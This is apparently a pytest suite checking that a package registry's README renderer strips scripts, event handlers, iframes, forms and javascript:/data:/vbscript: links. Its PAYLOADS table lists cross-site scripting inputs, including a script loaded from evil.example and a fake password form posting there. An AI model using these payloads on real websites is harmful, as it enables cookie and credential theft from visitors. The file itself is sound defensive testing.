"""A pack's README is the publisher's text shown to every visitor: nothing in it may run in their browser."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from backend.registry.archives import render_readme

_SAFE_TAGS = {"p", "a", "code", "pre", "em", "strong", "h1", "h2", "h3", "ul", "ol", "li", "img", "br"}
_SAFE_SCHEMES = ("http://", "https://", "mailto:")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _tags(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.tags


PAYLOADS = {
    "script": "<script>alert(document.cookie)</script>",
    "script in a list": "- item <script src=https://evil.example/x.js></script>",
    "onerror": "<img src=x onerror=alert(1)>",
    "onclick on raw html": '<div style="position:fixed" onclick="steal()">Click</div>',
    "svg onload": "<svg onload=alert(1)><circle r=1></svg>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "raw javascript anchor": '<a href="javascript:alert(1)">docs</a>',
    "markdown javascript link": "[docs](javascript:alert(1))",
    "mixed case scheme": "[docs](JaVaScRiPt:alert(1))",
    "entity-encoded scheme": "[docs](java&#x73;cript:alert(1))",
    "reference link": "[docs][r]\n\n[r]: javascript:alert(1)",
    "image with javascript": "![logo](javascript:alert(1))",
    "data url": "[docs](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript": "[docs](vbscript:msgbox(1))",
    "style block": "<style>body{display:none}</style>",
    "form": '<form action="https://evil.example"><input name=p type=password></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_readme_payloads_render_as_inert_text(payload: str) -> None:
    html = render_readme(f"# Demo\n\n{payload}\n")
    for tag, attrs in _tags(html):
        assert tag in _SAFE_TAGS, (tag, html)
        for name, value in attrs:
            assert not name.startswith("on") and name != "style", (tag, name, html)
            if name in ("href", "src"):
                assert (value or "").startswith(_SAFE_SCHEMES), (tag, name, value, html)


def test_raw_html_is_shown_as_text_not_markup() -> None:
    html = render_readme('Before <b onmouseover="x()">bold</b> <script>alert(1)</script> after')
    assert "<b" not in html and "<script" not in html
    assert "&lt;script&gt;" in html  # the visitor sees what the publisher wrote


def test_ordinary_markdown_keeps_its_links_safely() -> None:
    html = render_readme("See [the docs](https://example.com/docs) or <https://example.com>.\n\n`code`")
    links = [dict(attrs) for tag, attrs in _tags(html) if tag == "a"]
    assert [link["href"] for link in links] == ["https://example.com/docs", "https://example.com"]
    assert all("noopener" in (link.get("rel") or "") for link in links)
    assert "<code>code</code>" in html
